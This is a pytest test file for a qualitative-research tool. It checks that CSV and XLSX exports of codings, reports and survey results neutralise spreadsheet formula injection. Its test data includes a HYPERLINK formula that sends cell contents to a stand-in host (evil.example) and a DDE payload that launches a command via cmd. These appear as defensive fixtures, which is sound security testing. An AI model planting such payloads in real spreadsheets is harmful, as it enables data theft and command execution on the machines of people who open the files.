"""Every CSV and XLSX export, fed formulas, emoji, NaN and exponents: no cell runs as a formula,
numbers stay numbers. Files are read back with openpyxl and pandas."""

from __future__ import annotations

import csv
import io
import math

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from qualcode.cli import cli
from qualcode.coding.csv_exchange import export_codings_csv, import_codings_csv
from qualcode.coding.retrieval import coded_quotes, quotes_csv
from qualcode.exchange.tables import render_table, to_xlsx
from qualcode.project import current_project
from qualcode.spreadsheet_cells import FORMULA_STARTS
from qualcode.store import session_scope
from qualcode.store.models import Code, Coding, Document, Memo
from qualcode.survey.exports import write_export
from qualcode.survey.responses import enter, save_page, submit
from qualcode.survey.results import load_results
from qualcode.survey.surveys import create_invitations, create_survey, require_survey, set_status

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "😀 =not a formula", "1e308", "NaN",
]  # fmt: skip
FRAME = pd.DataFrame(
    {"text": HOSTILE, "n": list(range(-4, len(HOSTILE) - 4)), "x": [math.nan, 1e-9] + [2.5] * 7}
)


def _csv_cells(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data)))


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def _assert_no_formula_text(cells) -> None:
    """No text cell starts like a formula (CSV cells that are numbers, like -0.5, are numbers)."""
    for value in cells:
        if isinstance(value, str) and not _is_number(value):
            assert not value.startswith(FORMULA_STARTS), value


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_table_csv_neutralises_text_and_keeps_numbers():
    back = pd.read_csv(io.BytesIO(render_table(FRAME, "csv")), keep_default_na=False)
    _assert_no_formula_text(back["text"])
    assert back["text"][0] == "'" + HOSTILE[0]
    assert back["text"][6] == HOSTILE[6]
    assert list(back["n"]) == list(FRAME["n"])


def test_table_xlsx_has_no_formula_cells_and_numbers_stay_numbers():
    cells = _xlsx_cells(to_xlsx({"Table": FRAME}))
    assert all(cell.data_type != "f" for cell in cells)
    _assert_no_formula_text(cell.value for cell in cells)
    numbers = [cell.value for cell in cells if cell.column == 2 and cell.row > 1]
    assert numbers == list(FRAME["n"]) and all(isinstance(v, int) for v in numbers)


@pytest.fixture
def hostile_study(small_url):
    """The small study with formula-like memos, coding memos and transcript text."""
    with session_scope(small_url) as session:
        project = current_project(session)
        for document in session.query(Document).all():
            document.text = "=cmd|' /C calc'!A0 ffff\n\neeee ffff"
        for n, coding in enumerate(session.query(Coding).all()):
            coding.memo = HOSTILE[n % len(HOSTILE)]
        session.add(Memo(project_id=project.id, title="@title", text="=1+1"))
    return small_url


def test_codings_export_neutralises_and_reimports_the_same_memos(hostile_study, sqlite_url):
    with session_scope(hostile_study) as session:
        project = current_project(session)
        text = export_codings_csv(session, project)
        before = sorted(c.memo for c in session.query(Coding).all())
    for row in _csv_cells(text):
        _assert_no_formula_text(row)
    with session_scope(hostile_study) as session:
        session.query(Coding).delete()
    with session_scope(hostile_study) as session:
        import_codings_csv(session, current_project(session), text)
    with session_scope(hostile_study) as session:
        assert sorted(c.memo for c in session.query(Coding).all()) == before


def test_retrieve_csv_neutralises_quotes_and_memos(hostile_study):
    with session_scope(hostile_study) as session:
        codes = session.query(Code).filter(Code.key.in_(["a", "b"])).all()
        quotes = coded_quotes(session, current_project(session), [c.id for c in codes])
        rows = _csv_cells(quotes_csv(quotes))
    assert len(rows) > 1 and any("cmd" in cell for row in rows for cell in row)
    for row in rows:
        _assert_no_formula_text(row)


@pytest.mark.parametrize("table", ["code-table", "framework-matrix"])
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_report_files_from_transcript_text_hold_no_formula(hostile_study, tmp_path, table, suffix):
    out = tmp_path / f"t.{suffix}"
    args = ["report", table, "--db", hostile_study, "--out", str(out)]
    if table == "code-table":
        args += ["--format", suffix]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    if suffix == "csv":
        cells = [c for row in _csv_cells(out.read_text(encoding="utf-8")) for c in row]
        _assert_no_formula_text(cells)
    else:
        cells = _xlsx_cells(out.read_bytes())
        assert all(cell.data_type != "f" for cell in cells)
        _assert_no_formula_text(cell.value for cell in cells)


def test_agreement_csv_neutralises_code_names(small_url):
    with session_scope(small_url) as session:
        session.query(Code).filter(Code.key == "a").update({"name": "=EVIL()"})
    result = CliRunner().invoke(cli, ["agree", "--db", small_url, "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [c for row in _csv_cells(result.output) for c in row]
    assert "'=EVIL()" in cells
    _assert_no_formula_text(cells)


SURVEY = {
    "slug": "hostile",
    "title": "Hostile",
    "pages": [{"title": "Q", "questions": [
        {"id": "role", "type": "single", "text": "=Role", "options": ["-Dev", "Other"], "other": True},
        {"id": "years", "type": "number", "text": "Years", "min": -10, "max": 50},
        {"id": "note", "type": "long_text", "text": "Note"},
    ]}],
}  # fmt: skip


@pytest.fixture
def hostile_results(sqlite_url):
    from qualcode.project import create_project
    from qualcode.survey.instrument import parse_instrument

    with session_scope(sqlite_url) as session:
        survey = create_survey(session, create_project(session, "S"), parse_instrument(SURVEY))
        set_status(session, survey, "open")
        tokens = [r["token"] for r in create_invitations(session, survey, 2, "http://x")]
    answers = [({"role": "-Dev", "years": "-3", "note": HOSTILE[0]}, {}),
               ({"role": "Other (please specify)", "years": "7", "note": "@x"}, {"role": "+SUM(1)"})]  # fmt: skip
    for token, (values, others) in zip(tokens, answers, strict=True):
        with session_scope(sqlite_url) as session:
            entry = enter(session, "hostile", token)
            assert save_page(session, entry, 0, values, others, 1) == {}
            assert submit(session, entry) == {}
    with session_scope(sqlite_url) as session:
        return load_results(session, require_survey(session, current_project(session), "hostile"))


def test_survey_xlsx_export_writes_answers_as_text_and_numbers_as_numbers(
    hostile_results, tmp_path
):
    cells = _xlsx_cells(write_export(hostile_results, "xlsx", tmp_path / "s.xlsx").read_bytes())
    assert all(cell.data_type != "f" for cell in cells)
    _assert_no_formula_text(cell.value for cell in cells)
    values = [cell.value for cell in cells]
    assert "'" + HOSTILE[0] in values and "'+SUM(1)" in values, repr(values)
    assert -3 in values and 7 in values


def test_survey_csv_export_neutralises_answers(hostile_results, tmp_path):
    back = pd.read_csv(write_export(hostile_results, "csv", tmp_path / "s.csv"))
    for column in back.columns:
        _assert_no_formula_text(back[column])
    assert list(back["years"]) == [-3, 7]
